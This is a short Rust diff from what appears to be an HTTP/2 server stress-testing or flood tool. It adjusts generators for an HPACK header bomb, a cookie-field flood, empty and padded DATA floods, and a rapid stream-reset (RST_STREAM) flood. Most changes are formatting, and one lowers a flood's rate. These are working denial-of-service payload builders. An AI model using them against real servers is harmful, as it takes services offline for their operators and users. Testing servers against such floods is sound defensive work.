@@ -144,9 +144,9 @@ impl Kind {
             Self::HpackBomb => bomb(&get("/sleep/50")),
             Self::CookieCrumbs => {
                 let block = [get("/sleep/50"), field(b"cookie", b"a").repeat(5000)].concat();
-                Flood::of(preface(&[]), move |n| {
-                    streams(n, 10).flat_map(|id| head(END_STREAM, id, &block)).collect()
-                })
+                // 5 MB a second: what more costs is the way of the bytes, whatever is in them.
+                let two = move |n| streams(n, 2).flat_map(|id| head(END_STREAM, id, &block)).collect();
+                Flood::of(preface(&[]), two).every(20)
             }
             Self::EmptyData => Flood::same(upload(host, "/upload"), many(&frame(DATA, 0, 1, b""))),
             Self::PaddedData => {
@@ -199,7 +199,8 @@ impl Kind {
 
 fn resets(block: Vec<u8>, count: u64) -> Flood {
     Flood::of(preface(&[]), move |n| {
-        let one = |id| [head(END_STREAM, id, &block), frame(RST_STREAM, 0, id, &8_u32.to_be_bytes())].concat();
+        let one =
+            |id| [head(END_STREAM, id, &block), frame(RST_STREAM, 0, id, &8_u32.to_be_bytes())].concat();
         streams(n, count).flat_map(one).collect()
     })
 }
@@ -233,7 +234,10 @@ fn bomb(block: &[u8]) -> Flood {
     // The first entry behind the 61 that everybody has.
     let named = [block, &vec![0x80 | 62; 16_000]].concat();
     Flood::of(opening, move |n| {
-        streams(n, 10).skip(1).flat_map(|id| frame(HEADERS, END_STREAM | END_HEADERS, id, &named[..16_000])).collect()
+        streams(n, 10)
+            .skip(1)
+            .flat_map(|id| frame(HEADERS, END_STREAM | END_HEADERS, id, &named[..16_000]))
+            .collect()
     })
 }
 
